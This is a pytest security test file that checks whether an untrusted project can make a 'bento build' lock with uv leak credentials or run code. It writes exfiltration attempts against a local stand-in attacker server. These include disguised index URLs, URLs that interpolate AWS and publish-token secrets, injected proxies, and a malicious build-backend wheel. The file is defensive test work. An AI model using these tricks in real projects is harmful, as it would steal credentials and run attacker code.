"""What reaches a server of a stranger's project, and which code runs, when `bento build` locks: real uv, and a sink.

Tests read what the server received and whether the canary ran, never the text of an error.
"""

import base64
import os
import shutil
from pathlib import Path

import pytest
from bento_cli.cli import main
from rules_bento.bentos.packages.lock_with_uv import Project, update

from tests.helpers.loopback import Handler, running
from tests.helpers.made_wheels import Maker

UV = str(Path(os.environ["RULES_BENTO_UV"]).absolute())
SERVICE = "import bentoml\n\n@bentoml.service\nclass Svc:\n    @bentoml.api\n    def f(self, x: int) -> int:\n        return x\n"
PROJECT = """\
[project]
name = "p"
version = "1"
requires-python = ">=3.9"
dependencies = ["bentoml==1.4.39", "evil"]
"""
BENTO = "[tool.bentoml.build]\nservice = 'service:Svc'\n"


@pytest.fixture
def sink(tmp_path):
    """An index and proxy of the stranger. `seen` has methods, paths, and logins of requests. It serves evilbe."""
    (tmp_path / "wheels").mkdir()
    code = f"open({str(tmp_path / 'canary')!r}, 'w').close()\ndef build_wheel(*_, **__): raise SystemExit(1)\n"
    wheel = Maker("evilbe").add({"evilbe/__init__.py": code}).write(tmp_path / "wheels")

    class Pages(Handler):
        def do_GET(self):
            login = self.headers.get("Authorization", "")
            known = base64.b64decode(login[6:]).decode() if login.startswith("Basic ") else login
            self.server.seen.append((self.command, self.path, known))
            if self.path.endswith(wheel.name):
                self.send(200, wheel.read_bytes())
            else:
                self.send(404 if login else 401, b"", {"WWW-Authenticate": "" if login else "Basic"})

        do_HEAD = do_CONNECT = do_GET

    with running(Pages, seen=[]) as server:
        yield server


@pytest.fixture
def project(tmp_path, monkeypatch):
    directory = tmp_path / "a/project"
    directory.mkdir(parents=True)
    (directory / "service.py").write_text(SERVICE)
    netrc = tmp_path / "netrc"
    netrc.write_text("machine git.example.com login me password NETRCSECRET\n")
    netrc.chmod(0o600)
    for name in [name for name in os.environ if name.startswith("UV_") or name.lower().endswith("_proxy")]:
        monkeypatch.delenv(name)
    settings = {"HOME": str(tmp_path), "BENTOML_HOME": str(tmp_path / "home"), "UV_CACHE_DIR": str(tmp_path / "cache")}
    settings |= {"NETRC": str(netrc), "UV_INDEX_INTERNAL_USERNAME": "me", "UV_INDEX_INTERNAL_PASSWORD": "SECRET"}
    settings |= {"UV_PUBLISH_TOKEN": "SECRET", "AWS_SECRET_ACCESS_KEY": "SECRET", "UV_HTTP_RETRIES": "0"}
    for name, value in settings.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr("rules_bento.bentos.packages.uv.find_uv", lambda: UV)
    for name in ("BENTO_NO_LOCK", "CI", "XDG_CONFIG_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(directory)
    return directory


URL = {
    "plain": '"http://{}/simple"',
    "escape": r'"http:\u002f\u002f{}/simple"',
    "long escape": r'"\U00000068ttp:/\x2f{}/simple"'.replace(r"\x2f", r"\u002F"),
    "one slash": '"http:/{}/simple"',
    "no slash": '"http:{}/simple"',
    "backslashes": "'http:\\\\{}/simple'",
    "several lines": '"""http://\\\n  {}/simple"""',
    "uppercase": '"HTTP://{}/simple"',
    "a tab": r'"ht\ttp://{}/simple"',
}
INDEX = {
    "table": '[[tool.uv.index]]\nname = "internal"\nurl = {}\n',
    "dotted": 'tool.uv.index = [{{name = "internal", url = {}}}]\n',
    "inline": 'tool = {{uv = {{index = [{{"name" = "in\\u0074ernal", "u\\u0072l" = {}}}]}}}}\n',
}


@pytest.mark.parametrize(
    ("form", "spelling"), [*((form, "plain") for form in INDEX), *(("table", name) for name in URL)]
)
def test_a_password_for_a_name_is_not_sent_to_an_address_of_the_project(project, sink, form, spelling):
    setting = INDEX[form].format(URL[spelling].format(sink.host))
    text = PROJECT + BENTO + setting if form == "table" else setting + PROJECT + BENTO
    (project / "bentofile.yaml").write_text("service: service:Svc\npython: {packages: [evil]}\n")
    if form == "inline":
        text = setting + PROJECT
    for _ in range(2):
        (project / "pyproject.toml").write_text(text)
        main(["build", "."])
        (project / "bentofile.yaml").unlink(missing_ok=True)
    assert not [request for request in sink.seen if "SECRET" in "".join(request)]


@pytest.mark.parametrize("where", ["environment", "uv.toml"])
def test_a_password_for_a_name_is_sent_to_the_address_that_the_user_gives(project, sink, where, tmp_path, monkeypatch):
    """The counterpart of the tests above: the guards aren't the reason why nothing arrives."""
    address = f"http://{sink.host}/simple"
    if where == "environment":
        monkeypatch.setenv("UV_INDEX", f"internal={address}/")
    else:
        (tmp_path / ".config/uv").mkdir(parents=True)
        (tmp_path / ".config/uv/uv.toml").write_text(f'[[index]]\nname = "internal"\nurl = "{address}"\n')
    (project / "pyproject.toml").write_text(f"{PROJECT}{BENTO}{INDEX['table'].format(repr(address))}")
    main(["build", "."])
    assert "me:SECRET" in {login for _, _, login in sink.seen}


@pytest.mark.parametrize(
    "more",
    [
        '[[tool.uv.index]]\nurl = "{}"\n',
        "[tool.uv]\nindex-url = '{}'\n",
        "[tool.uv]\nextra-index-url = ['{}']\n",
        "[tool.uv]\nfind-links = ['{}']\n",
        "[dependency-groups]\ndev = ['evil @ {}/evil-1.0-py3-none-any.whl']\n",
    ],
)
def test_a_login_for_all_hosts_is_not_sent_to_a_host_of_the_project(project, sink, more, tmp_path):
    (tmp_path / "netrc").write_text("default login me password NETRCSECRET\n")
    (project / "pyproject.toml").write_text(PROJECT + BENTO + more.format(f"http://{sink.host}/simple"))
    main(["build", "."])
    assert sink.seen
    assert not [request for request in sink.seen if "SECRET" in "".join(request)]


BRACES = (r"\u007b", r"\U0000007b")
VARIABLE = {
    "dependency": 'dependencies = ["bentoml==1.4.39", "evil @ {}"]\n',
    "extra": 'optional-dependencies.x = ["evil @ {}"]\ndependencies = ["bentoml==1.4.39"]\n',
    "group": 'dependencies = ["bentoml==1.4.39"]\n[dependency-groups]\ndev = ["evil @ {}"]\n',
    "source": 'dependencies = ["bentoml==1.4.39", "evil"]\n[tool.uv.sources]\nevil.url = "{}"\n',
    "constraint": 'dependencies = ["bentoml==1.4.39", "evil"]\n[tool.uv]\nconstraint-dependencies = ["evil @ {}"]\n',
    "override": 'dependencies = ["bentoml==1.4.39", "evil"]\n[tool.uv]\noverride-dependencies = ["evil @ {}"]\n',
    "index": 'dependencies = ["bentoml==1.4.39", "evil"]\n[tool.uv]\nindex-url = "{}"\n',
    "find-links": 'dependencies = ["bentoml==1.4.39", "evil"]\n[tool.uv]\nfind-links = ["{}"]\n',
}


@pytest.mark.parametrize(
    ("form", "brace"), [*((form, "{") for form in VARIABLE), *(("source", text) for text in BRACES)]
)
def test_no_variable_is_sent_in_an_address(project, sink, form, brace):
    url = f"http://{sink.host}/$@AWS_SECRET_ACCESS_KEY}}/$@UV_PUBLISH_TOKEN}}/evil-1.0-py3-none-any.whl"
    head = PROJECT.partition("dependencies")[0]
    (project / "pyproject.toml").write_text(f"{head}{VARIABLE[form]}".replace("{}", url.replace("@", brace)) + BENTO)
    for command in ("build", "lock"):
        main([command, "."])
    assert not [request for request in sink.seen if "SECRET" in "".join(request)]


@pytest.mark.parametrize("text", ["evil @ {}", "{}", "--index-url {}", "--extra-index-url {}", "--find-links {}"])
def test_no_variable_is_sent_in_an_address_of_a_requirements_file(project, sink, text):
    url = f"http://{sink.host}/${{UV_PUBLISH_TOKEN}}/evil-1.0-py3-none-any.whl"
    (project / "requirements.txt").write_text(
        f"bentoml==1.4.39\nevil\n{text.format(url)}\n".replace("evil\nevil", "evil")
    )
    (project / "bentofile.yaml").write_text("service: service:Svc\npython: {requirements_txt: requirements.txt}\n")
    main(["build", "."])
    assert not [request for request in sink.seen if "SECRET" in "".join(request)]


CONNECTION = {
    "table": '{}[tool.uv]\nhttps-proxy = "{}"\nallow-insecure-host = ["git.example.com"]\n',
    "dotted": 'tool.uv.https-proxy = "{1}"\ntool.uv.allow-insecure-host = ["git.example.com"]\n{0}',
    "inline": 'tool.uv = {{https-proxy = "{1}", allow-insecure-host = ["git.example.com"]}}\n{0}',
    "quoted": '{}["tool".\'uv\']\n"https\\u002dproxy" = "{}"\n"allow-insecure-host" = ["git.example.com"]\n',
    "http": '{0}[tool.uv]\nhttp-proxy = "{1}"\nhttps-proxy = "{1}"\n',
    "uv.toml": "{0}",
}


@pytest.mark.parametrize("form", CONNECTION)
def test_a_project_chooses_no_proxy(project, sink, form):
    """With a proxy, a project gets logins, and its answers stay in the cache of uv for other projects."""
    proxy = f"http://{sink.host}"
    index = '[[tool.uv.index]]\nurl = "https://git.example.com/simple"\ndefault = true\n'
    if form in ("dotted", "inline"):
        text = CONNECTION[form].format(PROJECT + BENTO, proxy)
        text = text.replace("tool.uv = {", 'tool.uv = {index-url = "https://git.example.com/simple", ')
        text = f'tool.uv.index-url = "https://git.example.com/simple"\n{text}' if form == "dotted" else text
    else:
        text = CONNECTION[form].format(PROJECT + BENTO, proxy) + index
    if form == "uv.toml":
        (project / "uv.toml").write_text(f'https-proxy = "{proxy}"\nindex-url = "https://git.example.com/simple"\n')
    (project / "pyproject.toml").write_text(text)
    main(["build", "."])
    assert sink.seen == []


@pytest.mark.parametrize("setting", ["cache-dir", "keyring-provider"])
def test_a_project_chooses_neither_cache_nor_programs(project, sink, setting, tmp_path, monkeypatch):
    program = tmp_path / "bin/keyring"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\ntouch {tmp_path}/canary\necho me\necho SECRET\n")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
    value = {"cache-dir": f"{tmp_path}/chosen", "keyring-provider": "subprocess"}[setting]
    index = f'[[tool.uv.index]]\nurl = "http://me@{sink.host}/simple"\ndefault = true\n'
    for text in (f'[tool.uv]\n{setting} = "{value}"\n', f'[tool.uv]\n"{setting}" = """{value}"""\n'):
        (project / "pyproject.toml").write_text(PROJECT + BENTO + text + index)
        main(["build", "."])
    (project / "pyproject.toml").write_text(
        f'tool.uv.{setting} = "{value}"\n{PROJECT}{BENTO}{index}'.replace("[[tool.uv", "#")
    )
    main(["build", "."])
    assert not (tmp_path / "chosen").exists()
    assert not (tmp_path / "canary").exists()


BACK_END = '[build-system]\nrequires = ["evilbe @ {0}"]\nbuild-backend = "evilbe"\n'
DYNAMIC = PROJECT.replace(', "evil"', "").replace('version = "1"\n', 'dynamic = ["version"]\n')
CODE = {
    "version": DYNAMIC + BENTO + BACK_END,
    "inline": 'build-system = {{requires = ["evilbe @ {0}"], build-backend = "evilbe"}}\n' + DYNAMIC + BENTO,
    "escapes": DYNAMIC.replace("dynamic", '"dyn\\u0061mic"') + BENTO + BACK_END.replace("build-system", '"build\\u002dsystem"'),
    "extras": DYNAMIC.replace('["version"]', '["version", "optional-dependencies"]') + BENTO + BACK_END,
    "dependencies": f"{DYNAMIC.partition('dependencies')[0]}{BENTO}{BACK_END}".replace('["version"]', '["dependencies"]'),
    "isolation": DYNAMIC + BENTO + BACK_END + '[tool.uv]\nno-build-isolation-package = ["p"]\n',
    "member": PROJECT + BENTO + '[tool.uv.workspace]\nmembers = ["member"]\n[tool.uv.sources]\nevil.workspace = true\n',
    "path": PROJECT + BENTO + '[tool.uv.sources]\nevil = {{path = "member"}}\n',
    "editable": PROJECT + BENTO + '[tool.uv.sources]\nevil = [{{path = "./member", editable = true}}]\n',
}  # fmt: skip


@pytest.mark.parametrize("form", CODE)
def test_an_implicit_lock_runs_no_code_of_the_project(project, sink, form, tmp_path):
    wheel = f"http://{sink.host}/evilbe-1.0-py3-none-any.whl"
    (project / "pyproject.toml").write_text(CODE[form].format(wheel))
    (project / "member").mkdir()
    member = DYNAMIC.replace('"p"', '"evil"') + BACK_END.format(wheel)
    (project / "member/pyproject.toml").write_text(member)
    main(["build", "."])
    assert not (tmp_path / "canary").exists()


OTHERS = {
    "uv.toml": {"uv.toml": 'index-url = "http://{}/simple"\n'},
    "settings": {"pyproject.toml": '[tool.uv]\nindex-url = "http://{}/simple"\n'},
    "workspace": {"pyproject.toml": DYNAMIC.replace('"p"', '"other"') + '[tool.uv.workspace]\nmembers = ["*lock-*"]\n' + BACK_END.replace("{0}", "http://{0}/evilbe-1.0-py3-none-any.whl")},
}  # fmt: skip


@pytest.mark.parametrize("command", ["uv.lock", "requirements", "rules"])
@pytest.mark.parametrize("form", OTHERS)
def test_files_of_others_in_the_temporary_directory_are_not_read(project, sink, form, command, tmp_path, monkeypatch):
    shared = tmp_path / "shared"
    shared.mkdir()
    monkeypatch.setenv("TMPDIR", str(shared))
    monkeypatch.setattr("tempfile.tempdir", None)
    monkeypatch.setenv("UV_INDEX_URL", "http://127.0.0.1:9/simple")
    for name, text in OTHERS[form].items():
        (shared / name).write_text(text.format(sink.host))
    if command == "rules":
        uv = Path(shutil.which(UV) or UV)
        with pytest.raises(Exception, match="lock"):
            update(Project(["evil"], ">=3.9"), None, uv=uv, origin="lock")
    elif command == "uv.lock":
        (project / "pyproject.toml").write_text(PROJECT + BENTO)
    else:
        (project / "bentofile.yaml").write_text("service: service:Svc\npython: {packages: [evil]}\n")
    main(["build", "."])
    assert sink.seen == []
    assert not (tmp_path / "canary").exists()


SPACES = (
    " ",
    "\\t",
    "\\n",
    "\\u00a0",
    "\\u2003",
    "\\u3000",
    "\\ufeff",
    "\\u200b",
    "\\u0000",
    "\\u0085",
    "\\u001f",
    "\\u2028",
)
SETTINGS = {
    "extra-index-url": '[tool.uv]\nextra-index-url = ["{}"]\n',
    "index-url": '[tool.uv]\nindex-url = "{}"\n',
    "find-links": '[tool.uv]\nfind-links = ["{}"]\n',
    "index": '[[tool.uv.index]]\nurl = "{}"\n',
    "file": '[tool.uv]\nindex-url = "{}"\n',
}


@pytest.mark.parametrize("space", SPACES)
@pytest.mark.parametrize("setting", SETTINGS)
def test_a_character_that_clients_trim_hides_no_address(project, sink, setting, space, tmp_path, capfd):
    (tmp_path / "netrc").write_text("default login me password NETRCSECRET\n")
    for before, after in ((space, ""), ("", space)):
        address = f"http://me:SECRET@{sink.host}/simple" if setting != "file" else f"file://{tmp_path}"
        (project / "pyproject.toml").write_text(PROJECT + BENTO + SETTINGS[setting].format(before + address + after))
        assert main(["build", "."]) == 1
    shown = capfd.readouterr().err
    assert sink.seen == []
    assert "Traceback" not in shown
    assert "internal error" not in shown
    assert "SECRET" not in shown


@pytest.mark.parametrize(
    "name",
    [
        *("python", "python.link", "limits.txt", "requirements.in", "uv.toml", "pyproject.toml", "uv.lock", "./uv.lock"),
        *("requirements.lock.txt", "pylock.toml", "python/x", "UV.TOML", "python/../python", "a", "python//", "uv.lock/x"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("form", ["uv.lock", "requirements"])
def test_links_to_files_of_the_project_change_none_of_them(project, sink, name, form, capfd):
    path = project / Path(name)
    is_new = not path.exists() and ".." not in name
    if is_new:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("keep\n") if name != "a" else path.mkdir()
    before = {path: path.read_bytes() for path in project.rglob("*") if path.is_file()}
    text = f'[tool.uv]\nno-index = true\nfind-links = ["{name}", "a", "a/b"]\n'
    (project / "pyproject.toml").write_text(PROJECT + BENTO + text)
    if form == "requirements":
        (project / "bentofile.yaml").write_text("service: service:Svc\npython: {packages: [evil]}\n")
    main(["build", "."])
    after = {path: path.read_bytes() for path in project.rglob("*") if path.is_file() and path in before}
    changed = {path.name for path in before if path.name != "pyproject.toml" and after.get(path) != before[path]}
    assert changed <= set()
    assert not [path for path in project.rglob("*") if path.is_symlink()]
    assert "/tmp/bento-lock" not in capfd.readouterr().err


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('[tool.uv]\nfind-links = ["a\\u0000b"]\n', "tool.uv.find-links"),
        ("[dependency-groups]\ndev = [3]\n", "invalid type: integer `3`, expected"),
        ("[dependency-groups]\ndev = [{include-group = 3}]\n", "invalid type: integer `3`, expected a string"),
        (
            '[tool.uv]\ndependency-metadata = [{name = "x", requires-dist = "x"}]\n',
            "requires-dist: expected a list, got a string",
        ),
        (
            '[tool.uv]\ndependency-metadata = [{name = "x", requires-dist = ["b @ file:///x"]}]\n',
            "dependency-metadata: b: 'file:",
        ),
        ("[tool.uv]\nhttps-proxy = 'http://127.0.0.1:9'\n", "https-proxy: only the user chooses this setting"),
        ('[tool.uv]\nfind-links = ["Uv.Lock"]\n', "tool.uv.find-links: the path 'Uv.Lock' can be a file that uv reads"),
        ('[tool.uv]\nfind-links = ["python/x"]\n', "tool.uv.find-links: the path 'python/x' isn't a directory"),
    ],
)  # fmt: skip
def test_an_invalid_setting_is_named(project, text, problem, capfd):
    (project / "pyproject.toml").write_text(PROJECT + BENTO + text)
    (project / "Uv.Lock").mkdir()
    assert main(["build", "."]) == 1
    shown = capfd.readouterr().err
    assert problem in shown
    assert "internal error" not in shown
